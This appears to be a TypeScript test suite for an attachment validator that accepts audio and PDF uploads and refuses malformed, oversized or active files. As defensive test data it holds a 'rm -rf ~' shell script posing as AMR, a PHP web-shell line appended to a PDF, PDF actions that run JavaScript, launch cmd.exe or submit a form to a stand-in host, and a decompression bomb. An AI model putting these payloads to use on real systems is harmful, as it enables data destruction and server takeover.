import { hash } from 'node:crypto'
import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { acceptAttachment, MOST_BYTES } from './accept.ts'
import {
  aac,
  amr,
  box,
  html,
  id3,
  mp3,
  mp4,
  objectStream,
  ogg,
  oggPage,
  pdf,
  red,
  svg,
  verdict,
  wav,
  webm,
} from './test-files.ts'

type Verdict = 'unsupported-media' | 'attachment-unreadable' | 'attachment-active' | 'too-large'

/** Where a reader of ZIP begins. */
const zipIndex = Buffer.concat([Buffer.from('PK\u0005\u0006'), Buffer.alloc(18)])

const jpeg = await red().jpeg().toBuffer()

describe('sound and PDF', () => {
  for (const [what, bytes, mediaType, name] of [
    ['MP3', mp3(), 'audio/mpeg', 'a.mp3'],
    ['M4A', mp4(['soun']), 'audio/mp4', 'a.m4a'],
    ['MP4 of a browser, sound alone', mp4(['soun'], 'isom'), 'audio/mp4', 'a.m4a'],
    ['AAC', aac(), 'audio/aac', 'a.aac'],
    ['AMR', amr(), 'audio/amr', 'a.amr'],
    ['AMR wide-band', amr('wide'), 'audio/amr', 'a.amr'],
    ['WAV', wav(), 'audio/wav', 'a.wav'],
    ['Ogg Opus', ogg(), 'audio/ogg', 'a.ogg'],
    ['Ogg Vorbis', ogg('\u0001vorbis'), 'audio/ogg', 'a.ogg'],
    ['Ogg Speex', ogg('Speex   '), 'audio/ogg', 'a.ogg'],
    ['WebM sound', webm([2]), 'audio/webm', 'a.webm'],
    ['PDF', pdf(), 'application/pdf', 'a.pdf'],
    ['PDF with compressed objects', pdf({ more: [objectStream('<</Type/Font>>')] }), 'application/pdf', 'a.pdf'],
  ] as const) {
    test(`${what} is taken as it is`, async () => {
      const accepted = await acceptAttachment(bytes, 'a.exe')
      expect(accepted).toEqual({ mediaType, name, bytes, sha256: hash('sha256', bytes, 'buffer') })
    })
  }

  for (const [what, bytes, refusal] of [
    ['nothing', Buffer.alloc(0), 'attachment-unreadable'],
    ['zeros', Buffer.alloc(5000), 'unsupported-media'],
    ['a text', Buffer.from('路灯坏了'), 'unsupported-media'],
    ['HTML', Buffer.from(html), 'unsupported-media'],
    ['SVG', Buffer.from(svg), 'unsupported-media'],
    ['SVG behind an XML head', Buffer.from(`<?xml version="1.0"?>${svg}`), 'unsupported-media'],
    ['a Windows program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]), 'unsupported-media'],
    ['a ZIP', Buffer.from('504b0304140000000800', 'hex'), 'unsupported-media'],
    ['a film', mp4(['soun', 'vide'], 'isom'), 'unsupported-media'],
    ['a film that says it is M4A', mp4(['vide', 'soun']), 'unsupported-media'],
    ['a film without sound', webm([1]), 'unsupported-media'],
    ['a WebM film', webm([2, 1]), 'unsupported-media'],
    [
      'an Ogg film beside sound',
      Buffer.concat([ogg(), oggPage(Buffer.from('\u0080theora'), true)]),
      'unsupported-media',
    ],
    ['M4A without tracks', mp4([]), 'attachment-unreadable'],
    ['M4A, cut', mp4(['soun']).subarray(0, -30), 'attachment-unreadable'],
    [
      'M4A with a box that claims too much',
      Buffer.concat([mp4(['soun']), Buffer.from('7fffffff6672656500', 'hex')]),
      'attachment-unreadable',
    ],
    ['M4A with a box of no length', Buffer.concat([mp4(['soun']), box('free').fill(1, 3, 4)]), 'attachment-unreadable'],
    ['M4A that is a head alone', mp4(['soun']).subarray(0, 24), 'attachment-unreadable'],
    ['WebM cut before its tracks', webm([2]).subarray(0, 40), 'attachment-unreadable'],
    ['WebM with a head alone', webm([2]).subarray(0, 14), 'attachment-unreadable'],
    ['MP3 that is HTML', Buffer.concat([mp3(1).subarray(0, 4), Buffer.from(html)]), 'attachment-unreadable'],
    ['MP3 tag before HTML', Buffer.concat([id3(), Buffer.from(html)]), 'unsupported-media'],
    ['MP3 tag longer than the file', id3().subarray(0, 40), 'attachment-unreadable'],
    ['JPEG behind an MP3 tag', Buffer.concat([id3(), jpeg]), 'attachment-unreadable'],
    ['PDF behind an MP3 tag', Buffer.concat([id3(), pdf()]), 'attachment-unreadable'],
    ['AAC that is HTML', Buffer.concat([aac(1).subarray(0, 7), Buffer.from(html.repeat(9))]), 'attachment-unreadable'],
    ['AMR that is HTML', Buffer.from(`#!AMR\n${html}`), 'attachment-unreadable'],
    ['AMR that is a script', Buffer.from('#!AMR/../bin/sh\nrm -rf ~\n'), 'attachment-unreadable'],
    ['WAV without data', wav().subarray(0, 38), 'attachment-unreadable'],
    ['Ogg that is one page and HTML', Buffer.concat([ogg(), Buffer.from(html)]), 'attachment-unreadable'],
    ['PDF, cut', pdf().subarray(0, -60), 'attachment-unreadable'],
    ['PDF with a ZIP behind it', Buffer.concat([pdf(), Buffer.alloc(2000, 'PK\u0003\u0004')]), 'attachment-unreadable'],
    ['PDF with a password', pdf({ trailer: '/Encrypt 9 0 R' }), 'attachment-unreadable'],
    ['PDF that runs a script', pdf({ more: ['<</S/JavaScript/JS(app.alert(1))>>'] }), 'attachment-active'],
    ['PDF that hides the word', pdf({ more: ['<</S/J#61vaScrip#74 /JS(app.alert(1))>>'] }), 'attachment-active'],
    ['PDF with scripts by name', pdf({ more: ['<</Names<</JavaScript 5 0 R>>>>'] }), 'attachment-active'],
    ['PDF that starts a program', pdf({ more: ['<</S/Launch/F(cmd.exe)>>'] }), 'attachment-active'],
    ['PDF with a file in it', pdf({ more: ['<</Type/EmbeddedFile/Length 0>>'] }), 'attachment-active'],
    ['PDF with files by name', pdf({ more: ['<</Names<</EmbeddedFiles 5 0 R>>>>'] }), 'attachment-active'],
    ['PDF that opens a file in it', pdf({ more: ['<</S/GoToE/T 5 0 R>>'] }), 'attachment-active'],
    ['PDF with a form program', pdf({ more: ['<</AcroForm<</XFA 5 0 R>>>>'] }), 'attachment-active'],
    ['PDF that sends a form', pdf({ more: ['<</S/SubmitForm/F(https://evil.test)>>'] }), 'attachment-active'],
    ['PDF that plays', pdf({ more: ['<</Subtype/RichMedia>>'] }), 'attachment-active'],
    [
      'PDF that is a ZIP as well',
      Buffer.concat([pdf().subarray(0, -7), zipIndex, Buffer.from('\n%%EOF\n')]),
      'attachment-unreadable',
    ],
    [
      'PDF with a script among compressed objects',
      pdf({ more: [objectStream('<</S /JavaScript /JS 4 0 R>>')] }),
      'attachment-active',
    ],
    [
      'PDF with a script in the second object stream',
      pdf({ more: [objectStream('<<>>'), objectStream('<</S/Launch>>')] }),
      'attachment-active',
    ],
    [
      'PDF with objects that cannot be looked into',
      pdf({ more: [objectStream('<<>>', '/Filter[/ASCIIHexDecode/FlateDecode]')] }),
      'unsupported-media',
    ],
    [
      'PDF with objects behind a predictor',
      pdf({ more: [objectStream('<<>>', '/Filter/FlateDecode/DecodeParms<</Predictor 12>>')] }),
      'unsupported-media',
    ],
    [
      'PDF with broken objects',
      pdf({ more: ['<</Type/ObjStm/Filter/FlateDecode>>stream\nnot deflated\nendstream'] }),
      'attachment-unreadable',
    ],
    [
      'PDF whose objects inflate to a gigabyte',
      pdf({ more: Array.from({ length: 9 }, () => objectStream('0 '.repeat(5_000_000))) }),
      'attachment-unreadable',
    ],
    ['21 MB', Buffer.concat([mp3(), Buffer.alloc(MOST_BYTES)]), 'too-large'],
  ] as const satisfies readonly (readonly [string, Buffer, Verdict])[]) {
    test(`${what}: ${refusal}`, async () => expect(await verdict(bytes)).toBe(refusal))
  }

  test('what hangs behind the end of a PDF is cut off', async () => {
    const { bytes } = await acceptAttachment(Buffer.concat([pdf(), Buffer.from('<?php system($_GET[0]); ?>')]), 'a.pdf')
    expect(bytes).toEqual(pdf().subarray(0, -1))
  })

  test('PDF words that only look like those are taken', async () => {
    const more = ['<</Title(JavaScript)/LaunchPad 1/EncryptMetadata false/Encryption 2>>']
    expect(await verdict(pdf({ more }))).toBe('application/pdf')
  })
})

test('whatever the bytes, the answer is a kind or a refusal of ours', async () => {
  const seeds = [
    mp3(3),
    aac(3),
    amr('narrow', 3),
    wav(50),
    ogg(),
    mp4(['soun']),
    webm([2]),
    pdf({ more: [objectStream('<<>>')] }),
    await red(8, 8).jpeg().toBuffer(),
    await red(8, 8).png().toBuffer(),
    await red(8, 8).gif().toBuffer(),
    await red(8, 8).webp().toBuffer(),
  ]
  const change = fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 }))
  const damaged = fc.tuple(fc.constantFrom(...seeds), fc.array(change, { maxLength: 6 }), fc.nat(), fc.boolean())
  await fc.assert(
    fc.asyncProperty(damaged, async ([seed, changes, at, cut]) => {
      const bytes = Buffer.from(seed)
      for (const [where, value] of changes) bytes.writeUInt8(value, where % bytes.length)
      expect(await verdict(cut ? bytes.subarray(0, at % bytes.length) : bytes)).toMatch(
        /^(image|audio|application)\/|^(unsupported-media|attachment-unreadable|attachment-active|too-large)$/,
      )
    }),
    { numRuns: 200 },
  )
})
